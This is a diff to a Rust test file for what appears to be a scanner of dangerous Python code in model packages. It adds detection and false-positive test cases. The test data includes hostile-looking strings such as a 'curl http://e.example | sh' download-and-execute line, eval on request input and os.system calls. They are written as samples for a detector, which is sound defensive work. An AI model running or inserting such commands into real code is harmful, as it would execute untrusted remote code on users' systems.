@@ -63,6 +63,7 @@ fn dangerous_source_is_found() {
         "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
         "def handle(data, context):\n    return eval(data[0]['body'])",
         "import torch\ntorch.hub.load('a/b', 'c', trust_repo=True)",
+        "def f(\n    a,\n):\n    import os\n    os.system('id')",
         "import os, sys\nif sys.platform == 'linux':\n    os.system('curl http://e.example | sh')",
     ] {
         assert!(!judged(source, Place::Source).is_empty(), "{source}");
@@ -100,6 +101,8 @@ fn ordinary_model_code_is_clean() {
         "import numpy as np\nW = np.load('w.npy')\n",
         "import pathlib\nROOT = pathlib.Path(__file__).parent\nDATA = (ROOT / 'x.json').read_text()",
         "import platform, sys\nprint(platform.system(), sys.version)",
+        "def save(\n    self,\n    a: str | None = None,\n) -> tuple[str, ...]:\n    x = [\n        1,\n    ]\n    if a:\n        with open(\n            a, 'w'\n        ) as f:\n            f.write('x')\n    return x",
+        "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi', '-L']).decode().strip()",
         "from setuptools import setup\nsetup(name='x', version='1', install_requires=['torch'])",
         "import mlflow\nclass M(mlflow.pyfunc.PythonModel):\n    def predict(self, context, model_input):\n        return self.m.predict(model_input)",
         "import torch\nkernel = torch.utils.checkpoint.checkpoint(fn, x)\nx = x.view(-1).system\n",
